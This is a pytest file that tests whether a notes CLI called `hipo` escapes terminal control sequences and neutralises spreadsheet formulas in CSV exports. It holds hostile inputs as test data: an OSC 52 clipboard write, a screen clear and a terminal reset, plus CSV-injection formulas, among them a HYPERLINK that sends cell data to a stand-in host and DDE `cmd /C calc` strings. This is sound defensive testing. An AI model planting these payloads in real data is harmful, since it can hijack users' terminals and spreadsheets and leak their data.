"""Stored text never writes to the terminal (issue 34): the `hipo` command as a real process.

A note holding `ESC [2J` (clear the screen), an OSC 52 clipboard write, a DCS string, a bare
ESC (`ESC c` resets the terminal), a C1 control (`\\x9b`, a one-byte CSI), DEL and a lone
`\\r` is hand-appended to the raw log (the raw log is the truth and anyone may edit it: nothing
escapes it on the way in), a file to import and a folder carry such names too. Every command
that shows them prints, on stdout and stderr, no raw ESC, C1 or other control byte, and shows
the visible escape (`\\x1b[2J`) as checkpoints write it on disk; `--json` stays valid JSON that
means the same text.
"""

from __future__ import annotations

import json
import os
import pty
import re
import subprocess
import sys
from pathlib import Path

import pytest
from claude_helpers import api_fixture, claude_shell_fixture, run, served_fixture  # noqa: F401
from IPython.lib.pretty import pretty

from hipo_jupyter.terminal import json_text, visible

REPO = Path(__file__).resolve().parent.parent
TODAY = "2026-03-12"
CLEAR = "\x1b[2J"
CLIPBOARD = "\x1b]52;c;ZWNobyBwd25lZA==\x07"
DCS = "\x1bP+q544e\x1b\\"
RESET = "\x1bc"
C1_CSI = "\x9b31m"
HOSTILE = f"{CLEAR}{CLIPBOARD}{DCS}{RESET}{C1_CSI}\x7f\rhidden"
# Every byte a terminal acts on, but newline and tab; and the UTF-8 of the C1 controls
RAW_CONTROL = re.compile(rb"[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]")


def run_hipo(
    root: Path, *args: str, tty: bool = False, stdin: str = ""
) -> subprocess.CompletedProcess[bytes]:
    env = {k: v for k, v in os.environ.items() if k not in ("HIPO_ROOT", "ANTHROPIC_API_KEY")}
    env["HIPO_SEMANTIC"] = "0"
    env["PYTHONPATH"] = os.pathsep.join(filter(None, [str(REPO), env.get("PYTHONPATH")]))
    env["HIPO_TODAY"] = TODAY
    script = Path(sys.executable).with_name("hipo")
    command = [str(script)] if script.is_file() else [sys.executable, "-m", "hipo_jupyter.cli"]
    if not tty:
        return subprocess.run(
            [*command, "--root", str(root), *args],
            input=stdin.encode(), capture_output=True, env=env, timeout=120,
        )  # fmt: skip
    leader, follower = pty.openpty()  # stdout is a terminal
    try:
        done = subprocess.run(
            [*command, "--root", str(root), *args],
            stdin=subprocess.DEVNULL, stdout=follower, stderr=subprocess.PIPE, env=env,
            timeout=120,
        )  # fmt: skip
        os.close(follower)
        follower = -1
        chunks = []
        while True:
            try:
                chunk = os.read(leader, 65536)
            except OSError:  # the terminal closed: everything was read
                break
            if not chunk:
                break
            chunks.append(chunk)
        done.stdout = b"".join(chunks)
        return done
    finally:
        os.close(leader)
        if follower != -1:
            os.close(follower)


def assert_shown_escaped(done: subprocess.CompletedProcess[bytes], *, shows: bool = True) -> str:
    """No raw control byte on stdout or stderr; the visible escape where the note shows."""
    for name, stream in (("stdout", done.stdout), ("stderr", done.stderr)):
        found = RAW_CONTROL.search(stream.replace(b"\r\n", b"\n"))
        assert found is None, f"{name} holds a raw control byte {found.group()!r}: {stream!r}"
    text = (done.stdout + done.stderr).decode()
    if shows:
        assert "\\x1b[2J" in text, text
    return text


@pytest.fixture(scope="module")
def hostile_root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One folder for the module's tests, which only read it (export, recall, rules, ...)."""
    memory_root = tmp_path_factory.mktemp("hostile")
    assert run_hipo(memory_root, "init").returncode == 0
    done = run_hipo(memory_root, "remember", "Zebra census", "--tags", "zebra", stdin="- a: 9")
    assert done.returncode == 0
    log = memory_root / "memory" / f"{TODAY}.md"
    with log.open("a", encoding="utf-8", newline="") as out:
        out.write(
            f"\n## Zebra {CLEAR}count [feedback] #zebra\n"
            f"- trigger: before a zebra {CLEAR}count\n"
            f"- rule: zebra {CLIPBOARD} check {C1_CSI} twice\n"
            f"- outcome: zebra tank {HOSTILE}\n"
        )
    assert run_hipo(memory_root, "reindex").returncode == 0
    assert run_hipo(memory_root, "compact").returncode == 0
    return memory_root


@pytest.mark.parametrize(
    "args",
    [
        ("recall", "zebra"),
        ("recall", "zebra", "--context"),
        ("rules",),
        ("layer1",),
        ("compact",),
        ("sparql", "SELECT ?t WHERE { ?c schema:name ?t }"),
    ],
    ids=" ".join,
)
def test_commands_show_stored_controls_escaped(hostile_root: Path, args: tuple[str, ...]) -> None:
    done = run_hipo(hostile_root, *args)
    assert done.returncode == 0, done.stderr
    assert_shown_escaped(done, shows=args[0] != "compact")


@pytest.mark.parametrize(
    "args", [("recall", "zebra", "--json"), ("status", "--json"), ("sparql", "--json",
             "SELECT ?t WHERE { ?c schema:name ?t }")], ids=" ".join,
)  # fmt: skip
def test_json_is_valid_and_means_the_same_text(hostile_root: Path, args: tuple[str, ...]) -> None:
    done = run_hipo(hostile_root, *args)
    assert done.returncode == 0, done.stderr
    assert_shown_escaped(done, shows=False)
    document = json.loads(done.stdout)
    if args[0] != "status":
        assert any(CLEAR in text for text in strings(document))  # the text itself, unchanged


def strings(document: object) -> list[str]:
    """Every string in a JSON document."""
    if isinstance(document, str):
        return [document]
    if isinstance(document, dict):
        return [text for value in document.values() for text in strings(value)]
    if isinstance(document, list):
        return [text for value in document for text in strings(value)]
    return []


def test_status_of_a_folder_named_with_escapes(tmp_path: Path) -> None:
    root = tmp_path / f"notes{CLEAR}{RESET}"
    root.mkdir()
    assert run_hipo(root, "init").returncode == 0
    assert run_hipo(root, "remember", "Zebra census", stdin="- outcome: 9").returncode == 0
    for args in (("status",), ("init",)):
        assert_shown_escaped(run_hipo(root, *args))


def test_errors_and_import_messages_show_escapes(tmp_path: Path, memory_root: Path) -> None:
    missing = tmp_path / f"gone{CLEAR}{C1_CSI}"
    done = run_hipo(missing, "status")
    assert done.returncode == 2 and b"does not exist" in done.stderr
    assert_shown_escaped(done)

    turns = [{"speaker": "Ada", "text": f"zebra {HOSTILE}", "time": "2026-03-01"}]
    source = tmp_path / f"chat{CLEAR}.json"
    source.write_text(json.dumps(turns))
    assert run_hipo(memory_root, "init").returncode == 0
    done = run_hipo(memory_root, "import", str(source))
    assert done.returncode == 0, done.stderr
    assert_shown_escaped(done)
    assert_shown_escaped(run_hipo(memory_root, "recall", "zebra"))

    done = run_hipo(memory_root, "recall", f"zebra{CLEAR}", "--mode", f"x{CLEAR}")
    assert done.returncode == 2
    assert_shown_escaped(done)


def test_export_to_a_terminal_is_shown_escaped_and_to_a_pipe_is_the_data(
    hostile_root: Path,
) -> None:
    shown = run_hipo(hostile_root, "export", "--format", "csv", tty=True)
    assert shown.returncode == 0, shown.stderr
    assert_shown_escaped(shown)
    piped = run_hipo(hostile_root, "export", "--format", "jsonl")
    rows = [json.loads(line) for line in piped.stdout.decode().splitlines()]
    assert any(CLEAR in row["title"] for row in rows)  # exact data for a file or a pipe
    parquet = run_hipo(hostile_root, "export", "--format", "parquet", "-o", "-", tty=True)
    assert parquet.returncode == 2 and b"parquet is binary" in parquet.stderr


def test_visible_is_the_escape_checkpoints_write_on_disk() -> None:
    from hipo_jupyter.memory import storable

    assert visible(HOSTILE) == storable(HOSTILE)
    assert visible(f"a{CLEAR}b\x9b\tc\n") == "a\\x1b[2Jb\\x9b\tc\n"
    assert json.loads(json_text({"t": HOSTILE})) == {"t": HOSTILE}
    assert not re.search("[\x00-\x1f\x7f-\x9f]", json_text({"t": HOSTILE}))


def test_terminal_ipython_shows_a_reply_and_a_recall_escaped(
    api, claude_shell, capsys, memory_root: Path
) -> None:
    """Terminal IPython obeys what it prints too: a streamed `%%ask` reply and `%recall`'s
    text show their escapes."""
    api.replies = [f"Sure. {CLEAR}{CLIPBOARD} done {C1_CSI}"]
    run(claude_shell, "%%ask\nWhat now?")
    out = capsys.readouterr().out
    assert "Sure." in out and "\\x1b[2J" in out and "\\x9b31m" in out
    assert not re.search("[\x1b\x07\x9b]", out)
    with (memory_root / "memory" / f"{TODAY}.md").open("a", encoding="utf-8") as log:
        log.write(f"\n## Zebra census #zebra\n- outcome: zebra {HOSTILE}\n")
    run(claude_shell, "%hipo reindex")
    capsys.readouterr()
    result = run(claude_shell, "%recall zebra").result
    shown = pretty(result) + str(result)  # what the terminal's display hook prints, and print
    assert "\\x1b[2J" in shown and not re.search("[\x1b\x07\x9b]", shown)


# --- spreadsheets: `hipo export --format csv` holds no live formula --------------------------
FORMULAS = ['=HYPERLINK("http://127.0.0.1:9/?d="&A1,"open")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]  # fmt: skip


def test_csv_export_writes_formulas_as_text(memory_root: Path, tmp_path: Path) -> None:
    import csv

    assert run_hipo(memory_root, "init").returncode == 0
    with (memory_root / "memory" / f"{TODAY}.md").open("a", encoding="utf-8") as log:
        for formula in FORMULAS:
            log.write(f"\n## {formula} [feedback]\n- why: =1+1\n- trigger: @now\n- rule: +do it\n")
    out = tmp_path / "memory.csv"
    done = run_hipo(memory_root, "export", "--format", "csv", "-o", str(out))
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    assert [row["title"] for row in rows] == ["'" + formula for formula in FORMULAS]
    assert {row["trigger"] for row in rows} == {"'@now"} and {row["rule"] for row in rows} == {
        "'+do it"
    }
    for row in rows:
        for name, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    piped = run_hipo(memory_root, "export", "--format", "csv").stdout.decode()
    assert piped == out.read_text(encoding="utf-8")  # stdout holds the same text
    # `hipo sparql` prints tab-separated values, which a spreadsheet opens as well
    query = "SELECT ?t WHERE { ?c a hipo:Checkpoint ; schema:name ?t }"
    tsv = run_hipo(memory_root, "sparql", query).stdout.decode().splitlines()
    assert sorted(tsv[1:]) == sorted("'" + formula for formula in FORMULAS)
